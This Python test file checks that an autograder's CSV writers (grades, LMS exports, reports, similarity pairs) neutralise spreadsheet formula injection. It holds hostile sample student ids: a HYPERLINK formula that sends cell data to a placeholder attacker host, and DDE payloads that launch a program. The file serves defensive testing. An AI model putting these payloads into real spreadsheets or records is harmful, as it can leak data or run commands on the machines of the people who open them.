"""No CSV the grader writes holds a live spreadsheet formula (OWASP "CSV Injection").

A student folder may be named ``=HYPERLINK(…)`` or ``+1+cmd|'-c calc'!A0`` (it passes the
student-id check: no '/', no control character).  Every CSV writer of the package is listed
here with a test that feeds it such ids; a writer added without a test fails
:func:`test_every_csv_writer_of_the_package_is_covered`.
"""
from __future__ import annotations

import argparse
import ast
import csv
import io
import re
from pathlib import Path

import pytest

from autograder.grading.results import GradesCsv, csv_writer, feed_results, spreadsheet_cell, write_result

PACKAGE = Path(__file__).resolve().parents[2] / "autograder"
HOSTILE = ['=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&C2,"Regrade approved")',
           "+1+cmd|' -c calc'!A0", "@SUM(1+1)*cmd|' -c calc'!A0", " =1+1 leading space",
           "\"=1+1\" quoted", "kim;=1+1", "s01"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def live_formula(cell: str) -> bool:
    """Would a spreadsheet (splitting on ',' or ';', skipping blanks and quotes) start a formula here?

    Written out independently of the grader's rule: a cell is safe when it starts with the
    apostrophe that makes it text, or is a decimal number."""
    if cell.startswith("'") or re.fullmatch(r"-?\d+(\.\d+)?([eE]-?\d+)?", cell):
        return False
    return any(piece.lstrip(' "\'')[:1] in TRIGGERS or piece[:1] in ("\t", "\r")
               for piece in re.split("[,;]", cell))


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(rows: list[list[str]], where: str) -> None:
    live = [cell for row in rows for cell in row if cell and live_formula(cell)]
    assert not live, f"{where}: live formulas {live}"


@pytest.mark.parametrize("text", HOSTILE[:-1] + ["-2+3", "@x", "\tx", "\rx", "a,=1", "x; +1", "'=1"])
def test_a_text_that_would_start_a_formula_gets_an_apostrophe(text):
    cell = spreadsheet_cell(text)
    assert not live_formula(cell)
    assert cell.removeprefix("'") == text  # the text itself is kept, as the spreadsheet shows it


@pytest.mark.parametrize("text", ["s01", "학생13", "0", "-0.5", "-3", "+2", "1e-06", "30", "Kim, Ji-woo",
                                  "rnn_backward.dWh", "a@b.example", "rnn - basics", ""])
def test_numbers_and_plain_text_are_written_as_they_are(text):
    assert spreadsheet_cell(text) == text


def test_non_text_cells_stay_numbers():
    assert spreadsheet_cell(-1.5) == -1.5 and spreadsheet_cell(3) == 3 and spreadsheet_cell(None) is None
    buffer = io.StringIO()
    csv_writer(buffer, lineterminator="\n").writerow([-1.5, "-2", "=1"])
    assert buffer.getvalue() == "-1.5,-2,'=1\n"


# --------------------------------------------------------------------------- every writer


def _result(course, student, assignment, score=None):
    items = []
    for spec in course.functions_of(assignment):
        for item in spec.items:
            items.append({"id": item.id, "function": spec.name, "output": item.output, "score": 0.0,
                          "max_score": item.points, "status": "failed", "message": "=1+1",
                          "diagnosis": None, "error": None, "case": None, "profile": None})
    items[0].update(status="passed", score=items[0]["max_score"])
    total = items[0]["score"] if score is None else score
    return {"student": student, "assignment": assignment, "score": total, "max_score": course.max_score(assignment),
            "items": items, "errors": ["=cmd|' /C calc'!A0"], "fingerprint": "f"}


@pytest.fixture
def hostile_class(tmp_path, course):
    out = tmp_path / "results"
    assignments = list(course.assignments)[:2]
    for student in HOSTILE:
        for aid in assignments:
            # a negative score (as a penalty could give) must stay a number
            write_result(out, _result(course, student, aid, score=-0.5 if student == "s01" else None), "# x")
    return out


def _ids_are_neutralised(rows: list[list[str]], column: int) -> None:
    ids = {row[column] for row in rows[1:]}
    for student in HOSTILE[:-1]:
        assert "'" + student in ids, (student, ids)


def test_grades_csv(hostile_class):
    feed_results(hostile_class, [GradesCsv(hostile_class)])
    rows = cells_of((hostile_class / "grades.csv").read_text(encoding="utf-8"))
    assert_no_formula(rows, "grades.csv")
    _ids_are_neutralised(rows, 0)
    assert {(r[0], r[2]) for r in rows if r[0] == "s01"} == {("s01", "-0.5")}  # our number stays a number


@pytest.mark.parametrize("fmt, id_column", [("nbgrader", 3), ("lms", 0), ("canvas", 3), ("moodle", 2)])
def test_every_export_format(hostile_class, course, tmp_path, fmt, id_column):
    from autograder.cli import export

    parser = argparse.ArgumentParser()
    export.add_arguments(parser)
    target = tmp_path / f"{fmt}.csv"
    extra = ["--new-assignments"] if fmt == "canvas" else []  # no roster to take Canvas's column ids from
    assert export.run(parser.parse_args([str(hostile_class), "--format", fmt, "--out", str(target), *extra]),
                      course) == 0
    rows = cells_of(target.read_text(encoding="utf-8"))
    assert_no_formula(rows, fmt)
    _ids_are_neutralised(rows, id_column)


def test_export_keeps_a_rosters_formulas_out_too(hostile_class, course, tmp_path):
    from autograder.cli import export

    roster = tmp_path / "roster.csv"
    roster.write_text('Student,ID,SIS User ID,SIS Login ID,Section\n"=1+1",7,u1,s01,"@Section"\n', encoding="utf-8")
    parser = argparse.ArgumentParser()
    export.add_arguments(parser)
    target = tmp_path / "canvas.csv"
    export.run(parser.parse_args([str(hostile_class), "--format", "canvas", "--out", str(target),
                                  "--roster", str(roster), "--new-assignments"]), course)
    rows = cells_of(target.read_text(encoding="utf-8"))
    assert_no_formula(rows, "canvas with a roster")
    assert ["'=1+1", "7", "u1", "s01", "'@Section"] in [r[:5] for r in rows]


def test_items_csv_of_the_report(hostile_class, course, tmp_path):
    from autograder.integrations.class_outputs import write_outputs
    from autograder.report.html import ItemsCsv

    write_outputs(hostile_class, [ItemsCsv(tmp_path / "report" / "items.csv", course)])
    rows = cells_of((tmp_path / "report" / "items.csv").read_text(encoding="utf-8"))
    assert len(rows) > 1
    assert_no_formula(rows, "items.csv")


def test_similarity_pairs_csv(tmp_path):
    from autograder.integrations.similarity import Match, SimilarityReport, write_report

    report = SimilarityReport(matches=[Match("rnn", "rnn_forward", HOSTILE[0], HOSTILE[1], 0.9, 0.8, "", "")],
                              compared=1, students=2)
    write_report(report, tmp_path, 0.6, 60)
    with open(tmp_path / "pairs.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert_no_formula(rows, "pairs.csv")
    assert rows[1][:2] == ["'" + HOSTILE[0], "'" + HOSTILE[1]]


# Each module that writes a CSV, and the test above that feeds it hostile cells.
WRITERS = {
    "grading/results.py": test_grades_csv,
    "integrations/lms.py": test_every_export_format,
    "report/html.py": test_items_csv_of_the_report,
    "integrations/similarity.py": test_similarity_pairs_csv,
}


def _csv_calls(tree: ast.AST) -> tuple[list[str], bool]:
    """Names of the csv writers a module calls (``csv.writer``, ``csv.DictWriter``, ``csv_writer``)."""
    found, imports_writer = [], False
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            imports_writer = imports_writer or any(a.name in ("writer", "DictWriter") for a in node.names)
        if isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name) and func.value.id == "csv" \
                    and func.attr in ("writer", "DictWriter"):
                found.append(f"csv.{func.attr}")
            elif isinstance(func, ast.Name) and func.id == "csv_writer":
                found.append("csv_writer")
    return found, imports_writer


def test_every_csv_writer_of_the_package_is_covered():
    raw, users = {}, set()
    for path in sorted(PACKAGE.rglob("*.py")):
        name = path.relative_to(PACKAGE).as_posix()
        calls, imports_writer = _csv_calls(ast.parse(path.read_text(encoding="utf-8")))
        assert not imports_writer, f"{name}: `from csv import writer`; use results.csv_writer"
        if any(c.startswith("csv.") for c in calls):
            raw[name] = [c for c in calls if c.startswith("csv.")]
        if "csv_writer" in calls:
            users.add(name)
    # the one raw csv.writer is the neutralising writer itself
    assert raw == {"grading/results.py": ["csv.writer"]}, raw
    assert users == set(WRITERS), "a module writes CSV without a test here (add it to WRITERS)"
    # nor is a CSV written by hand (a ".csv" file opened for writing, or its text written, elsewhere)
    handwritten = [p.relative_to(PACKAGE).as_posix() for p in PACKAGE.rglob("*.py")
                   if re.search(r"""\.csv["'].*\.write_text|open\([^)]*\.csv[^)]*["']w""", p.read_text(encoding="utf-8"))
                   and p.relative_to(PACKAGE).as_posix() not in WRITERS]
    assert not handwritten, handwritten
